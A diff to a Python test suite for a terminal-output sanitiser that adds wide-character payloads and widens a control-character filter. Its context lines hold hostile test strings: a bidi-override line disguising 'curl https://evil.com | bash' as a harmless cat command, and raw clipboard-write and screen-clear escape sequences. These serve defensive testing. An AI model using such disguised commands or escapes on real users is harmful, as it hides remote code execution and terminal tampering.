@@ -48,7 +48,11 @@ PAYLOADS = (
     # https://evil.com|bash.sh`; and isolates
     "cat notes.md \u202ehs.hsab|moc.live//:sptth lruc #\u202c",
     "\u202a\u202b\u202d\u2066\u2067\u2068\u2069",
+    # widths terminals disagree on (hole 9): VS16, a joined sequence, a flag, Hangul fillers
+    "\u2764\ufe0f \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1fa\U0001f1f8 \u115f\u1160\u3164\uffa0",
 )
+# drawn at a width that depends on the terminal: never written as they are (core/text.py)
+_UNEVEN = "\u200d\ufe0f\U0001f1e6-\U0001f1ff\u115f\u1160\u3164\uffa0"
 # What no terminal may ever receive from session text (checked before anything is removed).
 RAW_SEQUENCES = ("\x1b]52;c;SGFja2Vk", "\x1b]0;title", "\x1b[2J", "\x9b")
 
@@ -237,7 +241,7 @@ def hostile(tmp_path) -> HostileRoot:
 _OWN_SEQUENCE = re.compile(r"\x1b\[(?:[0-9;:]*m|\d+;\d+H|\d*[ABCD]|\?\d+[hl])")
 _CLIPBOARD = re.compile(r"\x1b\]52;c;[A-Za-z0-9+/=]*\x07")
 _POINTER = re.compile(r"\x1b\]22;[a-z-]+\x07")
-_CONTROL = re.compile("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
+_CONTROL = re.compile(f"[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff{_UNEVEN}]")
 
 
 def terminal_problems(writes: list[str]) -> list[str]:
@@ -439,6 +443,7 @@ def test_the_scan_finds_what_it_must(hostile):
     assert terminal_problems(["\x1b[1;1Ha\x1b[2Jb"])
     assert terminal_problems(["x\x1b]52;c;SGFja2Vk\x07"])
     assert terminal_problems(["\x1b[1;1Hcat \u202ehs.hsab\u202c"])
+    assert terminal_problems(["\x1b[1;1H\U0001f468\u200d\U0001f469"])
 
 
 # ----------------------------------------------------------------------------- the command line
